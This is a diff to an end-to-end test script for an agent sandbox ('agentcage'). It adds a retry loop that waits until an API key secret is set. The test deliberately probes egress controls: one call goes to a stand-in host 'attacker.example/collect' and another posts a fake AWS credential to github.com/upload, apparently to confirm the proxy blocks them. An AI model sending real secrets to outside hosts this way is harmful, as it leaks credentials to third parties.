@@ -2,11 +2,11 @@
 
     python3 /e2e/agent.py INTERNET_IP
 
-It cannot be `podman exec`ed into (it runs in the guest), so it tries everything once,
-prints `RESULTS {json}` (read back through `agentcage cage logs -s agent`), then keeps
-calling two hosts every few seconds: api.openai.com, which only a live `domain add` lets
-through, and api.anthropic.com with the key's placeholder, whose real value a live
-`secret set` changes. Every request carries `x-vm: 1`, so the fake internet's records
+It cannot be `podman exec`ed into (it runs in the guest), so it tries everything once
+(the allowed call until the key is set), prints `RESULTS {json}` (read back through
+`agentcage cage logs -s agent`), then keeps calling two hosts every few seconds:
+api.openai.com, which only a live `domain add` lets through, and api.anthropic.com with
+the key's placeholder, whose real value a live `secret set` changes. Every request carries `x-vm: 1`, so the fake internet's records
 tell this cage's arrivals from the session cage's.
 """
 
@@ -64,10 +64,21 @@ def direct(address: str, port: int) -> dict[str, Any]:
         return {"connected": False, "error": str(exc)}
 
 
+def allowed() -> dict[str, Any]:
+    """The key is set right after the cage is created: until then the proxy refuses the
+    placeholder (fail closed), so ask again until that refusal is gone."""
+    deadline = time.monotonic() + 300
+    while True:
+        outcome = http("POST", "https://api.anthropic.com/echo-key", "x", **{"x-api-key": KEY})
+        if "is not set" not in str(outcome.get("body")) or time.monotonic() > deadline:
+            return outcome
+        time.sleep(3)
+
+
 def main(internet: str) -> None:
     results = {
         "env_key": KEY,
-        "allowed": http("POST", "https://api.anthropic.com/echo-key", "x", **{"x-api-key": KEY}),
+        "allowed": allowed(),
         "blocked_host": http("GET", "https://attacker.example/collect"),
         "leak": http("POST", "https://github.com/upload", FAKE_AWS),
         "placeholder_wrong_host": http(
